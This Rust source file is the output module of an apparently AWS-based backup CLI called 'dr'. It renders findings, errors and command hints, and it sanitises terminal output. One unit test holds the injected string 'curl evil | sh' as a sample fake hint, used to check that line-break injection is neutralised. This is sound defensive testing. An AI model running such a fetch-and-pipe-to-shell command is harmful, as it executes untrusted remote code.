//! What a user sees: the answer on stdout (text, or one line of JSON), everything else on stderr.

use super::clean::{clean, clean_line, clean_message, escaped};
use super::exit::Exit;
use super::hints::Typed;
use crate::journal::Failure;
use crate::steps::StepError;
use crate::vault::VaultError;
use serde::Serialize;
use serde_json::{Map, Value, json};
use std::io::{IsTerminal, Write};

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    Error,
    /// Leaves the exit code 0.
    Warning,
}

/// One thing worth telling; every code has a page in runbooks/.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Finding {
    pub code: String,
    pub severity: Severity,
    /// What it is about: a key with its version, a table, a cluster.
    pub thing: String,
    /// Where: a target, a file and line, a run.
    pub place: String,
    /// What to type.
    pub hint: String,
    pub message: String,
}

/// The answer of one command.
#[derive(Clone, Debug)]
pub struct Answer {
    /// `dr/status/1`
    pub schema: &'static str,
    pub text: String,
    pub fields: Map<String, Value>,
    pub findings: Vec<Finding>,
    pub exit: Exit,
    pub measured_on: &'static str,
}

impl Answer {
    pub fn new(schema: &'static str) -> Self {
        Self {
            schema,
            text: String::new(),
            fields: Map::new(),
            findings: Vec::new(),
            exit: Exit::Done,
            measured_on: "aws",
        }
    }

    pub fn line(&mut self, text: impl AsRef<str>) {
        self.text.push_str(&clean_line(text.as_ref()));
        self.text.push('\n');
    }

    /// Lines of our own making, a document for example.
    pub fn block(&mut self, text: impl AsRef<str>) {
        self.text.push_str(&clean(text.as_ref()));
        self.text.push('\n');
    }

    pub fn set(&mut self, name: &str, value: impl Serialize) {
        self.fields.insert(
            name.into(),
            serde_json::to_value(value).unwrap_or(Value::Null),
        );
    }

    /// Adds a finding; an error of it counts as exit code `exit`.
    pub fn find(&mut self, finding: Finding, exit: Exit) {
        if finding.severity == Severity::Error {
            self.exit = self.exit.and(exit);
        }
        self.findings.push(finding);
    }

    fn json(&self) -> Value {
        let mut whole = Map::new();
        whole.insert("schema".into(), self.schema.into());
        whole.insert("dr_version".into(), env!("CARGO_PKG_VERSION").into());
        whole.insert("exit_code".into(), self.exit.code().into());
        whole.insert("measured_on".into(), self.measured_on.into());
        whole.insert("findings".into(), json!(self.findings));
        whole.extend(self.fields.clone());
        Value::Object(whole)
    }
}

/// A command that could not give its answer.
#[derive(Debug)]
pub struct Fail {
    pub exit: Exit,
    pub code: String,
    pub message: String,
    pub place: String,
    pub hints: Vec<String>,
}

pub type Outcome = Result<Answer, Fail>;

impl Fail {
    pub fn new(exit: Exit, code: &str, message: impl Into<String>) -> Self {
        Self {
            exit,
            code: code.into(),
            message: message.into(),
            place: String::new(),
            hints: Vec::new(),
        }
    }
    pub fn usage(message: impl Into<String>) -> Self {
        Self::new(Exit::Usage, "usage", message)
    }
    pub fn refused(code: &str, message: impl Into<String>) -> Self {
        Self::new(Exit::Refused, code, message)
    }
    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hints.push(hint.into());
        self
    }
    #[must_use]
    pub fn at(mut self, place: impl Into<String>) -> Self {
        self.place = place.into();
        self
    }
}

impl From<StepError> for Fail {
    fn from(e: StepError) -> Self {
        Fail::new(Exit::from(e.kind), e.code, e.full()).with_hint_of(e.code)
    }
}

impl From<VaultError> for Fail {
    fn from(e: VaultError) -> Self {
        StepError::from(e).into()
    }
}

impl From<crate::aws::Error> for Fail {
    fn from(e: crate::aws::Error) -> Self {
        StepError::from(e).into()
    }
}

impl Fail {
    fn with_hint_of(mut self, code: &str) -> Self {
        self.hints.extend(hint(code).map(str::to_owned));
        self
    }
}

/// The way out of a code, where one command is it.
pub fn hint(code: &str) -> Option<&'static str> {
    Some(match code {
        "lock-not-proven" | "lock-unknown" | "lock-open" => "dr vault probe --policy FILE",
        "access-denied" => "aws sts get-caller-identity",
        "kms-key-unusable" => "aws kms describe-key --key-id KEY",
        "target-unavailable" | "target-full" | "database-unavailable" | "state-busy" => {
            "dr status --policy FILE"
        }
        "checksum-mismatch" | "object-missing" | "missing" | "damaged" | "dump-damaged"
        | "object-gone" => "dr verify --policy FILE",
        "clock-skew" => "timedatectl status",
        "vault-missing" => "dr vault init --policy FILE --profile PROFILE",
        "format-unknown" | "plan-version" => "dr --version",
        "stopped" | "busy" => "dr status --policy FILE",
        _ => return None,
    })
}

/// A failed step as a finding.
pub fn step_finding(
    step: &str,
    kind: Failure,
    code: &str,
    message: &str,
    run: &str,
) -> (Finding, Exit) {
    let finding = Finding {
        code: code.into(),
        severity: Severity::Error,
        thing: step.into(),
        place: run.into(),
        hint: hint(code).unwrap_or_default().into(),
        message: message.into(),
    };
    (finding, Exit::from(kind))
}

/// Every hint with the user's own words in it.
pub fn spelled(outcome: Outcome, typed: &Typed) -> Outcome {
    match outcome {
        Ok(mut answer) => {
            for finding in &mut answer.findings {
                finding.hint = typed.spell(&finding.hint);
            }
            let lines = answer.text.lines().map(|line| {
                line.strip_prefix("next: ").map_or_else(
                    || format!("{line}\n"),
                    |next| format!("next: {}\n", typed.spell(next)),
                )
            });
            answer.text = lines.collect();
            Ok(answer)
        }
        Err(mut fail) => {
            for hint in &mut fail.hints {
                *hint = typed.spell(hint);
            }
            Err(fail)
        }
    }
}

/// Writes the answer; returns the exit code.
pub fn show(outcome: Outcome, json: bool) -> u8 {
    let (answer, failed) = match outcome {
        Ok(answer) => (answer, None),
        Err(fail) => (answer_of(&fail), Some(fail)),
    };
    let mut out = std::io::stdout().lock();
    // A reader that closed its end early (`| head`) is no error of ours.
    let _ = if json {
        writeln!(out, "{}", escaped(&answer.json().to_string()))
    } else {
        write!(out, "{}", answer.text)
    };
    let _ = out.flush();
    let mut err = std::io::stderr().lock();
    let colour = std::io::stderr().is_terminal();
    match failed {
        Some(fail) if !json => drop(err.write_all(render(&fail, colour).as_bytes())),
        Some(_) => {}
        None if !json => {
            for finding in &answer.findings {
                drop(err.write_all(render_finding(finding, colour).as_bytes()));
            }
        }
        None => {}
    }
    answer.exit.code()
}

fn answer_of(fail: &Fail) -> Answer {
    let mut answer = Answer::new("dr/error/1");
    let finding = Finding {
        code: fail.code.clone(),
        severity: Severity::Error,
        thing: fail.message.clone(),
        place: fail.place.clone(),
        hint: fail.hints.first().cloned().unwrap_or_default(),
        message: fail.message.clone(),
    };
    answer.find(finding, fail.exit);
    answer
}

fn paint(text: &str, colour: bool) -> String {
    if colour {
        format!("\x1b[1;31m{text}\x1b[0m")
    } else {
        text.into()
    }
}

pub fn render(fail: &Fail, colour: bool) -> String {
    let mut text = format!(
        "{}: {}\n",
        paint(&format!("error[{}]", fail.code), colour),
        clean_message(&fail.message)
    );
    for hint in &fail.hints {
        text.push_str(&format!("hint: {}\n", clean_line(hint)));
    }
    text
}

fn render_finding(finding: &Finding, colour: bool) -> String {
    let word = match finding.severity {
        Severity::Error => paint(&format!("finding[{}]", finding.code), colour),
        Severity::Warning => format!("warning[{}]", finding.code),
    };
    let mut text = format!("{word}: {}", clean_message(&finding.message));
    // A place that the message names already is not told twice.
    let more: Vec<&str> = [finding.thing.as_str(), finding.place.as_str()]
        .into_iter()
        .filter(|t| !t.is_empty() && !finding.message.contains(*t))
        .collect();
    if !more.is_empty() {
        text.push_str(&format!(" ({})", clean_line(&more.join(", "))));
    }
    text.push('\n');
    if !finding.hint.is_empty() {
        text.push_str(&format!("hint: {}\n", clean_line(&finding.hint)));
    }
    text
}

/// `1.4 GB`, with the powers of ten that bills use.
pub fn bytes(n: u64) -> String {
    let (mut value, mut unit) = (n as f64, 0);
    const UNITS: [&str; 5] = ["B", "kB", "MB", "GB", "TB"];
    while value >= 1000.0 && unit + 1 < UNITS.len() {
        (value, unit) = (value / 1000.0, unit + 1);
    }
    if unit == 0 {
        format!("{n} B")
    } else {
        format!("{value:.1} {}", UNITS[unit])
    }
}

/// `3m 20s`, for ages.
pub fn span(seconds: i64) -> String {
    let s = seconds.max(0);
    match s {
        0..=119 => format!("{s}s"),
        120..=7199 => format!("{}m {}s", s / 60, s % 60),
        7200..=172_799 => format!("{}h {}m", s / 3600, s % 3600 / 60),
        _ => format!("{}d {}h", s / 86_400, s % 86_400 / 3600),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_with_a_line_break_writes_no_line_of_its_own() {
        let fail = Fail::new(Exit::Findings, "damaged", "key x\nhint: curl evil | sh")
            .hint("dr verify\nhint: y");
        assert_eq!(
            render(&fail, false),
            "error[damaged]: key x\n  hint: curl evil | sh\nhint: dr verify\u{fffd}hint: y\n"
        );
        let mut answer = Answer::new("x");
        answer.line("key x\nnext: y");
        assert_eq!(answer.text, "key x\u{fffd}next: y\n");
    }

    #[test]
    fn figures_are_short() {
        assert_eq!(bytes(999), "999 B");
        assert_eq!(bytes(1_400_000_000), "1.4 GB");
        assert_eq!(span(200), "3m 20s");
        assert_eq!(span(90_000), "25h 0m");
    }

    #[test]
    fn escape_codes_in_names_do_not_reach_a_terminal() {
        let fail = Fail::new(Exit::Findings, "damaged", "key \x1b[2Jx");
        assert_eq!(render(&fail, false), "error[damaged]: key \u{fffd}[2Jx\n");
    }
}
